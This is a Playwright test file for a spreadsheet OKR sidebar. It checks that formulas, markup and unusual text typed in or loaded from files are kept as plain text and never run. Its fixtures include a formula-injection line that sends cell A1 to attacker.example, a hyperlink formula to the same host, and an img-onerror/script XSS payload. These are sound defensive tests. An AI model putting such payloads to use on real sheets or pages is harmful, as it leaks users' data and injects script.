/** Texts that would be formulas, markup or a burden elsewhere are nothing but texts here. */
import { Workbook } from "exceljs";
import type { Frame, Locator, Page } from "playwright-core";
import { type LocalSpreadsheet, onHost, startLocalSpreadsheet } from "./harness";
import { notice, openWorkbook, saveWorkbook, shownTable, sidebarReady } from "./workbooks";

const TEXTS: Readonly<Record<string, string>> = {
  "a formula": '=IMPORTXML("http://attacker.example/?"&A1,"//a")',
  "a formula behind other signs": '+HYPERLINK("http://attacker.example/","click")',
  markup: `<img src=x onerror="top.hacked=1;window.hacked=1"><script>window.hacked=1</script>`,
  "ten thousand characters": "Grow ".repeat(2000).trim(),
  "one word of ten thousand characters": "w".repeat(10_000),
  emoji: "Ship 🚀 with 👩‍👩‍👧‍👦 and é̂ accents",
  "right to left": "زيادة عدد المستمعين ‏(2026)‏ من 10 إلى 20",
  quotes: `'It''s "quoted" \\ and <?= scriptlet ?> {{mustache}} \${dollar}`,
};

let local: LocalSpreadsheet;
let page: Page;
let sidebar: Frame;
const foreign: string[] = [];
const boxes: string[] = [];

beforeAll(async () => {
  local = await startLocalSpreadsheet();
  page = await local.newPage();
  page.setDefaultTimeout(15_000);
  page.on("request", (request) => {
    if (!/^(data|blob):/.test(request.url()) && !request.url().startsWith(local.address)) foreign.push(request.url());
  });
  page.on("dialog", (dialog) => {
    boxes.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto(local.address);
  sidebar = await sidebarReady(page);
});

afterAll(async () => {
  await local?.close();
});

/** Whether anything that a text carried was run, asked for or put into the page. */
async function traces(): Promise<unknown[]> {
  const marks = await Promise.all(page.frames().map((frame) => frame.evaluate(() => "hacked" in window)));
  const images = await sidebar.locator("img, script[src], iframe").count();
  return [...foreign, ...boxes, ...marks.filter(Boolean), ...(images > 0 ? [`${images} elements of the text`] : [])];
}

/** The formulas of a row's cells that hold texts of people. */
function formulasOf(texts: string[]): Promise<string[]> {
  return onHost(
    page,
    ({ spreadsheet }, wanted) => {
      const range = spreadsheet.getSheetByName("OKRs")?.getDataRange();
      const formulas = range?.getFormulas() ?? [];
      return (range?.getDisplayValues() ?? []).flatMap((row, index) =>
        row.flatMap((cell, column) => (wanted.includes(cell) ? [formulas[index]?.[column] ?? ""] : [])),
      );
    },
    texts,
  );
}

async function save(form: "objective" | "key-result", fields: Record<string, string>): Promise<void> {
  for (const [name, text] of Object.entries(fields)) await sidebar.locator(`#${form}-${name}`).fill(text);
  await sidebar.locator("button[type=submit]").click();
  await notice(sidebar, "Saved “").waitFor();
  await sidebar.getByRole("button", { name: "Dismiss" }).click();
}

/** A long plan shows its objectives folded. */
async function unfold(section: Locator): Promise<void> {
  const fold = section.locator(".fold");
  if ((await fold.getAttribute("aria-expanded")) === "false") await fold.click();
}

test.each(Object.entries(TEXTS))("%s comes back as it was, as objective, key result and owner, and runs nothing", async (kind, text) => {
  await sidebar.locator("#tab-plan").click();
  await sidebar.locator("#add-objective").click();
  await save("objective", { objective: text, owner: `${kind}: ${text}` });
  const section = sidebar.locator(".objective").last();
  await unfold(section);
  await section.locator("[id^=add-key-result-]").click();
  await save("key-result", { text, owner: text, target: "10", start: "0", current: "4" });

  await unfold(section);
  const row = (await shownTable(page, "OKRs")).at(-1);
  expect(row).toMatchObject({ Objective: text, "Objective owner": `${kind}: ${text}`, "Key result": text, Owner: text, Score: "0.40" });
  expect(await formulasOf([text])).toEqual(["", "", ""]);
  expect(await section.locator("h2").textContent()).toBe(text);
  expect(await section.locator(".card .title").textContent()).toBe(text);
  await section.locator("[id^=edit-key-result-]").click();
  expect(await sidebar.locator("#key-result-text").inputValue()).toBe(text);
  expect(await traces()).toEqual([]);
  await sidebar.getByRole("button", { name: "Cancel" }).click();
});

test.each(["a formula", "markup", "one word of ten thousand characters", "emoji"])(
  "%s is refused as a metric's name, in one sentence beside the field, and stays as it was typed",
  async (kind) => {
    const text = TEXTS[kind] ?? "";
    await sidebar.locator("#tab-metrics").click();
    await sidebar.locator("#name-metric").click();
    await sidebar.locator("#metric-name").fill(text);
    await sidebar.locator("button[type=submit]").click();
    const error = sidebar.locator("#metric-name-error");
    await error.waitFor();

    expect(await error.textContent()).toMatch(/characters: use at most 250|holds a space or a sign/);
    expect(await sidebar.locator("#metric-name").inputValue()).toBe(text);
    expect(await traces()).toEqual([]);
    await sidebar.getByRole("button", { name: "Cancel" }).click();
    await sidebar.getByRole("button", { name: "Discard" }).click();
  },
);

test("the sidebar never needs more than its 300 pixels for them", async () => {
  for (const tab of await sidebar.locator("[role=tab]").all()) {
    await tab.click();
    expect(await sidebar.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(300);
  }
});

test("all of them survive a file", async () => {
  const before = await shownTable(page, "OKRs");
  await openWorkbook(page, "Hostile.xlsx", await saveWorkbook(page));
  sidebar = await sidebarReady(page);

  expect(await shownTable(page, "OKRs")).toEqual(before);
  expect((await formulasOf(Object.values(TEXTS))).filter(Boolean)).toEqual([]);
  expect(await traces()).toEqual([]);
});

test("a file whose metric carries a hostile name and text shows them as text", async () => {
  const book = new Workbook();
  const tab = book.addWorksheet("Metrics");
  tab.addRow(["Metric", "Current", "Owner"]);
  tab.addRow([TEXTS["markup"], 12, TEXTS["a formula"]]);
  await openWorkbook(page, "Foreign.xlsx", Buffer.from(await book.xlsx.writeBuffer()));
  sidebar = await sidebarReady(page);
  await sidebar.locator("#tab-metrics").click();
  await sidebar.locator("#name-metric").waitFor();

  expect(await sidebar.locator("#panel").textContent()).toContain("onerror");
  expect(await traces()).toEqual([]);
});
